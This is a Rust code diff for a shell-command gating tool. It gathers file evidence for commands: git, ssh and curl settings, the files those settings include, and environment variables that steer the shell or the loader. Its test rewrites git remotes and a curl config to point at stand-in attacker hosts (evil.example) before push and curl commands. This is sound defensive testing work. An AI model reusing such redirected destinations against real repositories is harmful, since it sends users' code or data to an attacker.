@@ -11,6 +11,7 @@ use bashgate_shared::classify::{Condition, Effects};
 use bashgate_shared::command::Digest;
 use bashgate_shared::programs;
 use bashgate_shared::protocol::{FileEvidence, MAX_EVIDENCE, MAX_HEAD_BYTES};
+use bashgate_shared::variables::{self, Steers};
 
 use super::conditions::place;
 use super::git;
@@ -25,61 +26,28 @@ const MAX_ALL: u64 = 64 << 20;
 const PROGRAMS: [&[u8]; 6] = [b"\x7fELF", b"\xcf\xfa\xed\xfe", b"\xca\xfe\xba\xbe", b"MZ", b"PK\x03\x04", b"\x1f\x8b"];
 /// How the entry for variables begins.
 const ENVIRONMENT: &str = "the environment's ";
+/// Longest file that is read for what it includes, in bytes.
+const MAX_SETTINGS: u64 = 256 * 1024;
 /// Most names below a folder that is sent as a whole.
 const MAX_TREE: usize = 200_000;
 
 /// The evidence for one command. Files that are not there, or are no plain files, say nothing; where there are more than the
 /// protocol allows, the last entry stands for all of the rest.
 pub fn of(effects: &Effects, conditions: &[Condition], cwd: &Path) -> Vec<FileEvidence> {
-    let mut found: Vec<FileEvidence> = Vec::new();
-    let mut room = MAX_ALL;
-    let mut add = |name: &str, told: Told| {
-        let known = found.iter().any(|file| file.path == name);
-        if !known
-            && found.len() < MAX_FILES
-            && let Some(file) = place(name, cwd)
-            && let Some(evidence) = read(name, &file, told, &mut room)
-        {
-            found.push(evidence);
-        }
-    };
+    let mut all = Gathered { found: Vec::new(), room: MAX_ALL, cwd };
     for path in &effects.runs {
-        add(path, Told::Head);
+        all.add(path, Told::Head);
     }
     if effects.network.is_empty() {
-        return folded(found);
+        return folded(all.found);
     }
     let rows: Vec<_> = effects.programs.iter().filter_map(|program| programs::row(program)).collect();
     for name in rows.iter().flat_map(|row| row.configured_by) {
-        add(name, Told::Digest);
+        all.add_with_included(name);
     }
-    if effects.programs.iter().any(|program| program == "git") {
-        let repositories = git::repositories(cwd).unwrap_or_default();
-        let inside = repositories.iter().flat_map(git::Repository::files);
-        for file in inside.chain(git::files_outside()) {
-            add(&file.to_string_lossy(), Told::Remotes);
-        }
-        // What settings include, hooks that it runs on the way, and remotes of the older forms.
-        let more = repositories
-            .iter()
-            .flat_map(|repository| ["hooks", "remotes", "branches"].map(|name| repository.common.join(name)));
-        let named = git::named::by_settings(cwd).ok().flatten().unwrap_or_default();
-        for path in more.chain(named) {
-            for file in files_of(&path) {
-                add(&file.to_string_lossy(), Told::Remotes);
-            }
-        }
-        for name in [".lfsconfig", ".gitmodules"] {
-            for repository in &repositories {
-                add(&repository.root.join(name).to_string_lossy(), Told::Digest);
-            }
-        }
-    }
-    for path in &effects.reads {
-        add(path, Told::Digest);
-    }
-    for path in &effects.named {
-        add(path, Told::Digest);
+    all.add_git(effects);
+    for path in effects.reads.iter().chain(&effects.named) {
+        all.add_with_included(path);
     }
     let is_folder = |path: &&String| place(path, cwd).is_some_and(|place| place.is_dir());
     let named = effects.reads.iter().chain(&effects.named).filter(is_folder);
@@ -88,7 +56,7 @@ pub fn of(effects: &Effects, conditions: &[Condition], cwd: &Path) -> Vec<FileEv
         match condition {
             Condition::NoSecretNamed { folder, start, end } => {
                 for name in names_in(folder, start, end, cwd) {
-                    add(&name, Told::Digest);
+                    all.add(&name, Told::Digest);
                 }
             }
             Condition::NoSecretBelow { folder } => folders.push(folder),
@@ -97,9 +65,132 @@ pub fn of(effects: &Effects, conditions: &[Condition], cwd: &Path) -> Vec<FileEv
     }
     folders.sort_unstable();
     folders.dedup();
-    found.extend(folders.into_iter().filter_map(|folder| tree(folder, cwd)));
-    found.extend(environment(&rows));
-    folded(found)
+    all.found.extend(folders.into_iter().filter_map(|folder| tree(folder, cwd)));
+    let steering = steering_variables(&rows);
+    for value in steering.iter().map(|(_, value)| value).filter(|value| value.starts_with('/')) {
+        all.add_with_included(value);
+        all.add_with_included(&format!("{value}/.curlrc"));
+    }
+    all.found.extend(environment(&steering));
+    folded(all.found)
+}
+
+/// What has been found so far, and how many more bytes may be hashed.
+struct Gathered<'c> {
+    found: Vec<FileEvidence>,
+    room: u64,
+    cwd: &'c Path,
+}
+
+impl Gathered<'_> {
+    fn add(&mut self, name: &str, told: Told) {
+        let known = self.found.iter().any(|file| file.path == name);
+        if !known
+            && self.found.len() < MAX_FILES
+            && let Some(file) = place(name, self.cwd)
+            && let Some(evidence) = read(name, &file, told, &mut self.room)
+        {
+            self.found.push(evidence);
+        }
+    }
+
+    /// A file, and what the settings in it include, if it is one of ssh's or curl's.
+    fn add_with_included(&mut self, name: &str) {
+        let mut waiting = vec![name.to_owned()];
+        while let Some(name) = waiting.pop() {
+            if self.found.iter().any(|file| file.path == name) {
+                continue;
+            }
+            self.add(&name, Told::Digest);
+            let Some(file) = place(&name, self.cwd).filter(|file| file.is_file()) else { continue };
+            let text = std::fs::File::open(file).and_then(|file| {
+                let mut bytes = Vec::new();
+                file.take(MAX_SETTINGS).read_to_end(&mut bytes).map(|_| bytes)
+            });
+            for included in text.iter().flat_map(|text| included(&String::from_utf8_lossy(text))) {
+                match included.split_once(['*', '?', '[']) {
+                    None => waiting.push(included),
+                    // As people write it: all files of a folder.
+                    Some((folder, "")) if included.ends_with("/*") => {
+                        let files = place(folder, self.cwd).map(|folder| files_of(&folder)).unwrap_or_default();
+                        waiting.extend(files.iter().map(|file| file.to_string_lossy().into_owned()));
+                    }
+                    Some(_) => self.found.push(unknown(&format!("files that {name} includes: {included}"))),
+                }
+            }
+        }
+    }
+
+    /// The settings of every repository in which git talks to a remote.
+    fn add_git(&mut self, effects: &Effects) {
+        if !effects.programs.iter().any(|program| program == "git") {
+            return;
+        }
+        let here = [".".to_owned()];
+        let folders: &[String] = if effects.git_in.is_empty() { &here } else { &effects.git_in };
+        // Without a digest: such an answer is for once.
+        let mut is_unknown = folders.iter().any(|folder| folder == "?");
+        for folder in folders.iter().filter_map(|folder| place(folder, self.cwd)) {
+            let repositories = git::repositories(&folder);
+            is_unknown |= repositories.is_err();
+            let repositories = repositories.unwrap_or_default();
+            let inside = repositories.iter().flat_map(git::Repository::files);
+            for file in inside.chain(git::files_outside()) {
+                self.add(&file.to_string_lossy(), Told::Remotes);
+            }
+            // What settings include, hooks that it runs on the way, and remotes of the older forms.
+            let more = repositories
+                .iter()
+                .flat_map(|repository| ["hooks", "remotes", "branches"].map(|name| repository.common.join(name)));
+            let named = git::named::by_settings(&folder).ok().flatten();
+            is_unknown |= named.is_none();
+            for path in more.chain(named.unwrap_or_default()) {
+                for file in files_of(&path) {
+                    self.add(&file.to_string_lossy(), Told::Remotes);
+                }
+            }
+            for name in [".lfsconfig", ".gitmodules"] {
+                for repository in &repositories {
+                    self.add(&repository.root.join(name).to_string_lossy(), Told::Digest);
+                }
+            }
+        }
+        if is_unknown {
+            self.found.push(unknown("settings of git that are only known when it runs"));
+        }
+    }
+}
+
+/// What an answer cannot be bound to.
+fn unknown(what: &str) -> FileEvidence {
+    let path = what.chars().take(1024).collect();
+    FileEvidence { path, sha256: String::new(), head: String::new() }
+}
+
+/// The files that settings of ssh (`Include a b`) or of curl (`config = x`, `-K x`) include, as paths. Any other text may look like
+/// it names some, which only binds more.
+fn included(text: &str) -> Vec<String> {
+    let mut found = Vec::new();
+    for line in text.lines() {
+        let line = line.trim();
+        let end = line.find(|c: char| c.is_whitespace() || c == '=' || c == ':').unwrap_or(line.len());
+        let (key, rest) = line.split_at_checked(end).unwrap_or((line, ""));
+        let values = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '=' || c == ':');
+        let plain = |value: &str| value.trim_matches(['"', '\'']).to_owned();
+        match key.to_ascii_lowercase().trim_start_matches('-') {
+            "include" => found.extend(values.split_whitespace().map(plain).map(|value| {
+                // ssh_config(5): relative to the folder of the user's settings.
+                if value.starts_with(['/', '~']) { value } else { format!("~/.ssh/{value}") }
+            })),
+            "config" | "k" if !values.is_empty() => found.push(plain(values)),
+            _ => {}
+        }
+        if let Some(glued) = line.strip_prefix("-K").filter(|glued| !glued.is_empty() && !glued.starts_with(' ')) {
+            found.push(plain(glued));
+        }
+    }
+    found.truncate(MAX_FILES);
+    found
 }
 
 /// As many as the protocol takes; the last one stands for the rest.
@@ -154,12 +245,14 @@ fn tree(folder: &str, cwd: &Path) -> Option<FileEvidence> {
     Some(FileEvidence { path: format!("{folder}/…"), sha256, head: String::new() })
 }
 
-/// The variables that say where the network's programs send: proxies, git's, and what their rows name.
-fn environment(rows: &[&programs::Program]) -> Option<FileEvidence> {
+/// The variables that say where the network's programs send: proxies, git's, what steers the shell and all programs, and what
+/// their rows name.
+fn steering_variables(rows: &[&programs::Program]) -> Vec<(String, String)> {
     let steers = |name: &str| {
         let lower = name.to_ascii_lowercase();
         lower.ends_with("_proxy")
             || ["GIT_", "SSH_ASKPASS", "CURL_"].iter().any(|start| name.starts_with(start))
+            || matches!(variables::steers(name), Some(Steers::Shell | Steers::Loader | Steers::Library))
             || rows.iter().any(|row| row.environment.contains(&name))
     };
     let found = std::env::vars_os().filter_map(|(name, value)| Some((name.into_string().ok()?, value)));
@@ -168,6 +261,11 @@ fn environment(rows: &[&programs::Program]) -> Option<FileEvidence> {
         .map(|(name, value)| (name, value.to_string_lossy().into_owned()))
         .collect();
     set.sort();
+    set
+}
+
+/// What they are set to.
+fn environment(set: &[(String, String)]) -> Option<FileEvidence> {
     // Their values may hold a password; whoever looks at a card sees which they are.
     let names: Vec<&str> = set.iter().map(|(name, _)| name.as_str()).take(8).collect();
     let lines: Vec<String> = set.iter().map(|(name, value)| format!("{name}={value}")).collect();
@@ -295,6 +393,50 @@ mod tests {
     }
 
     #[test]
+    fn settings_count_where_the_program_looks_for_them() {
+        let folder = tempfile::tempdir().unwrap();
+        let write = |name: &str, text: &str| {
+            let file = folder.path().join(name);
+            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+            std::fs::write(file, text).unwrap();
+        };
+        for repository in ["here", "there", "there/inner"] {
+            write(&format!("{repository}/.git/config"), "[remote \"origin\"]\n\turl = https://before.example/x\n");
+            write(&format!("{repository}/.git/HEAD"), "ref: refs/heads/main\n");
+        }
+        write("here/a.cfg", "config = b.cfg\n");
+        write("here/b.cfg", "-K c.cfg\n");
+        write("here/c.cfg", "silent\n");
+        let here = folder.path().join("here");
+        for (command, changed, now) in [
+            ("git push origin main", "here/.git/config", "[remote \"origin\"]\n\turl = https://evil.example/1\n"),
+            ("git -C ../there push", "there/.git/config", "[remote \"origin\"]\n\turl = https://evil.example/2\n"),
+            ("cd ../there && git push", "there/.git/config", "[remote \"origin\"]\n\turl = https://evil.example/3\n"),
+            (
+                "git -C ../there -C inner pull",
+                "there/inner/.git/config",
+                "[remote \"origin\"]\n\turl = https://e.example\n",
+            ),
+            ("curl -K a.cfg https://a.example", "here/c.cfg", "url = https://evil.example\n"),
+        ] {
+            let before = evidence_of(command, &here);
+            assert_eq!(before, evidence_of(command, &here), "{command}");
+            write(changed, now);
+            let after = evidence_of(command, &here);
+            assert_ne!(before, after, "{command}");
+            assert!(after.iter().all(|file| !file.sha256.is_empty()), "{command}: {after:?}");
+            if command.contains("git") {
+                assert!(after.iter().any(|file| file.head.contains("https://e")), "{command}: {after:?}");
+            }
+        }
+        // What only the command knows binds no answer for more than once.
+        for command in ["git --git-dir=../there/.git push", "git -C \"$x\" push", "GIT_DIR=x; cd \"$x\" && git push"] {
+            let evidence = evidence_of(command, &here);
+            assert!(evidence.iter().any(|file| file.sha256.is_empty()), "{command}: {evidence:?}");
+        }
+    }
+
+    #[test]
     fn files_that_a_command_runs_are_told_about() {
         let folder = tempfile::tempdir().unwrap();
         let write = |name: &str, text: &[u8]| {
@@ -326,7 +468,8 @@ mod tests {
             let found = classify(&CommandLine::parse(command).unwrap(), &Surroundings::default());
             let evidence = of(&found.effects, &found.conditions, folder.path());
             // Of which variables are set here, the test knows nothing.
-            let files = evidence.iter().filter(|file| !file.path.starts_with(ENVIRONMENT));
+            let by_variable = |file: &&FileEvidence| std::env::vars().any(|(_, value)| value == file.path);
+            let files = evidence.iter().filter(|file| !file.path.starts_with(ENVIRONMENT) && !by_variable(file));
             let names: Vec<&str> = files.map(|file| file.path.as_str()).collect();
             assert_eq!(names, want, "{command}");
             for file in evidence {
